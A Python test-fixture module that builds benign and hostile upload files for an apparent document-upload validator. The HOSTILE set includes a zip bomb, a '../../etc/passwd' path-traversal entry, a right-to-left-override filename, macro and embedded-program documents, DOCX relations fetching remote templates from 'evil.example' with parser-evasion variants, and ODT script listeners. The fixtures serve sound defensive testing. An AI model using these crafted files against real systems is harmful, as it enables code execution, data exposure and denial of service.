"""Files as somebody with bad intent, or bad luck, would send them; and good ones to tell them from."""

from __future__ import annotations

import io
import zipfile
from typing import Any

from PIL import Image

WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
EXCEL = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
ODT = b"application/vnd.oasis.opendocument.text"
PDF = b"%PDF-1.7\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n"
_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def zipped(parts: dict[str, bytes], **how: Any) -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", how.get("compression", zipfile.ZIP_DEFLATED)) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return written.getvalue()


def types(*of: str) -> bytes:
    return ("<Types>" + "".join(f'<Override ContentType="{each}"/>' for each in of) + "</Types>").encode()


def docx(**more: bytes) -> bytes:
    parts = {"[Content_Types].xml": types(WORD), "word/document.xml": b"<w:document>Hello</w:document>"}
    return zipped({**parts, **{name.replace("__", "/"): content for name, content in more.items()}})


def with_part(name: str, content: bytes = b"x") -> bytes:
    return zipped({"[Content_Types].xml": types(WORD), "word/document.xml": b"<w/>", name: content})


def related(kind: str, target: str) -> bytes:
    relation = f'<Relationship Id="r1" Type="{_RELS}/{kind}" Target="{target}" TargetMode="External"/>'
    return with_part("word/_rels/document.xml.rels", f"<Relationships>{relation}</Relationships>".encode())


def relation(attributes: str) -> bytes:
    return f'<Relationships><Relationship Type="{_RELS}/attachedTemplate" {attributes}/></Relationships>'.encode()


def xlsx() -> bytes:
    return zipped({"[Content_Types].xml": types(EXCEL), "xl/workbook.xml": b"<workbook/>"})


def odt(**more: bytes) -> bytes:
    return zipped({"mimetype": ODT, "content.xml": b"<office/>", **more})


def bomb() -> bytes:
    """A hundred kilobytes that unpack to a hundred megabytes."""
    return with_part("word/media/image1.bin", b"\0" * (100 * 1024 * 1024))


def many_parts() -> bytes:
    return zipped({"[Content_Types].xml": types(WORD)} | {f"word/{n}.bin": b"" for n in range(2500)})


def locked() -> bytes:
    content = bytearray(docx())
    # The flag of a password, in the first part's own head and in the directory.
    content[6] |= 1
    content[content.index(b"PK\x01\x02") + 8] |= 1
    return bytes(content)


def picture(form: str, size: tuple[int, int] = (8, 6), **how: Any) -> bytes:
    written = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(written, form, **how)
    return written.getvalue()


def photo_with_place() -> bytes:
    """A phone's picture: lying on its side, with the place and the phone's name in it, and a page behind it."""
    exif = Image.Exif()
    exif[0x0110] = "Canary Phone"
    exif[0x0112] = 6
    exif.get_ifd(0x8825)[1] = "N"
    return picture("JPEG", exif=exif) + b"<script>canary</script>"


def huge_picture() -> bytes:
    """Eight thousand dots wide and high, in a few kilobytes."""
    written = io.BytesIO()
    Image.new("1", (8000, 8000)).save(written, "PNG")
    return written.getvalue()


LISTENER = b'<o><%s:event-listener xlink:href="vnd.sun.star.script:x?location=application"/></o>'
FETCHES = b'<o><draw:image xlink:href="%s"/></o>'

GOOD: dict[str, tuple[str, bytes]] = {
    "a PDF": ("cv.pdf", PDF),
    "a picture": ("photo.png", picture("PNG")),
    "a photo": ("photo.JPEG", picture("JPEG")),
    "a letter": ("letter.docx", docx()),
    "a letter with a link": ("letter.docx", related("hyperlink", "https://example.org/")),
    "a table": ("pay.xlsx", xlsx()),
    "an open document": ("letter.odt", odt()),
    "text": ("note.txt", "Grüße\n<3".encode()),
    "an open document with a link": (
        "letter.odt",
        odt(**{"content.xml": b'<o><text:a xlink:href="https://example.org/"/></o>'}),
    ),
    "an open document with a picture": ("letter.odt", odt(**{"content.xml": FETCHES % b"Pictures/1.png"})),
    "an open document made from a template": (
        "letter.odt",
        odt(**{"meta.xml": b'<o><meta:template xlink:href="file:///usr/share/letter.ott"/></o>'}),
    ),
    "text of an older machine": ("note.txt", "Grüße".encode("cp1252")),
}

HOSTILE: dict[str, tuple[str, bytes]] = {
    "nothing": ("cv.pdf", b""),
    "a page": ("page.html", b"<html><script>x</script></html>"),
    "a drawing with a script": ("logo.svg", b"<svg onload='x()'/>"),
    "a page called a PDF": ("cv.pdf", b"<html><script>x</script></html>"),
    "a page called text": ("note.txt", b"  <!DOCTYPE html><script>x</script>"),
    "a drawing called text": ("note.txt", b"<svg onload='x()'/>"),
    "a program": ("setup.exe", b"MZ\x90\x00"),
    "a program called a picture": ("photo.jpg", b"MZ\x90\x00" + b"\0" * 100),
    "a program called text": ("note.txt", b"MZ\x90\x00\x03"),
    "signs that no text has": ("note.txt", b"MZ\x00\x03 and some words"),
    "a page with a PDF in it": ("cv.pdf", b"<html><script>x</script>" + PDF),
    "two endings": ("cv.pdf.exe", PDF),
    "an ending turned round": ("cv\u202efdp.exe", PDF),
    "no ending": ("cv", PDF),
    "half a PDF": ("cv.pdf", PDF[:20]),
    "a PDF called a picture": ("photo.png", PDF),
    "a picture of another kind": ("photo.png", picture("JPEG")),
    "a damaged picture": ("photo.png", picture("PNG")[:40]),
    "a picture too large to draw": ("photo.png", huge_picture()),
    "an old Office file": ("letter.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
    "a zip called a letter": ("letter.docx", zipped({"a.txt": b"x"})),
    "a table called a letter": ("letter.docx", xlsx()),
    "a letter with macros": ("letter.docx", with_part("word/vbaProject.bin")),
    "a letter that says it has macros": (
        "letter.docx",
        zipped({"[Content_Types].xml": types(WORD, "application/vnd.ms-word.document.macroEnabled.main+xml")}),
    ),
    "a letter of the macro kind": ("letter.docm", docx()),
    "a letter with a program in it": ("letter.docx", with_part("word/embeddings/setup.exe")),
    "a letter with an object": ("letter.docx", with_part("word/embeddings/oleObject1.bin")),
    "a letter that fetches its template": ("letter.docx", related("attachedTemplate", "https://evil.example/t.dotm")),
    "a letter that fetches a picture": ("letter.docx", related("image", "https://evil.example/t.png")),
    "the same, its word for outside written in numbers": (
        "letter.docx",
        with_part("word/_rels/document.xml.rels", relation('Target="https://evil.example/t" TargetMode="&#69;xternal"')),
    ),
    "the same, behind a sign that looks like the end": (
        "letter.docx",
        with_part("word/_rels/document.xml.rels", relation('Id="r>1" Target="https://evil.example/t" TargetMode="External"')),
    ),
    "the same, said to be a link in another place": (
        "letter.docx",
        with_part(
            "word/_rels/document.xml.rels",
            relation(f"Target='https://evil.example/t' TargetMode='External' Id='Type=&quot;{_RELS}/hyperlink&quot;'"),
        ),
    ),
    "the same, named in capitals": (
        "letter.docx",
        with_part("word/_rels/document.xml.RELS", relation('Target="https://evil.example/t" TargetMode="External"')),
    ),
    "instructions, named in capitals": ("letter.docx", with_part("word/styles.XML", b"<!DOCTYPE x><x/>")),
    "more to look through than anybody writes": (
        "letter.odt",
        odt(**{"content.xml": b"<o>" + b"<a b='c'/>" * 2_200_000 + b"</o>"}),
    ),
    "relations that are not whole": ("letter.docx", with_part("word/_rels/document.xml.rels", b"<Relationships>")),
    "a letter with its own entities": ("letter.docx", with_part("word/styles.xml", b'<!DOCTYPE x [<!ENTITY a "a">]><x/>')),
    "the same in another writing": ("letter.docx", with_part("word/styles.xml", "<!DOCTYPE x>".encode("utf-16"))),
    "a way out of the folder": ("letter.docx", with_part("../../etc/passwd")),
    "a bomb": ("letter.docx", bomb()),
    "far too many parts": ("letter.docx", many_parts()),
    "a letter with a password": ("letter.docx", locked()),
    "a damaged letter": ("letter.docx", docx()[:-30]),
    "an open document with a script": ("letter.odt", odt(**{"Basic/Standard/Module1.xml": b"<x/>"})),
    "an open document that runs something when it is opened": ("letter.odt", odt(**{"content.xml": LISTENER % b"script"})),
    "the same by another name": ("letter.odt", odt(**{"content.xml": LISTENER % b"s"})),
    "the same in its styles": ("letter.odt", odt(**{"styles.xml": LISTENER % b"script"})),
    "an open document with a program": ("letter.odt", odt(**{"content.xml": b"<o><draw:applet/></o>"})),
    "an open document whose link runs something": (
        "letter.odt", odt(**{"content.xml": b'<o><text:a xlink:href="vnd.sun.star.script:x?location=application"/></o>'}),
    ),
    "an open document that fetches a picture": ("letter.odt", odt(**{"content.xml": FETCHES % b"https://evil.example/t.png"})),
    "the same from the network's folders": ("letter.odt", odt(**{"content.xml": FETCHES % b"//evil.example/t.png"})),
    "the same from beside it": ("letter.odt", odt(**{"styles.xml": FETCHES % b"../../t.png"})),
    "an open document that is not whole": ("letter.odt", odt(**{"content.xml": b"<office>"})),
    "another open document": ("letter.odt", zipped({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet"})),
}  # fmt: skip
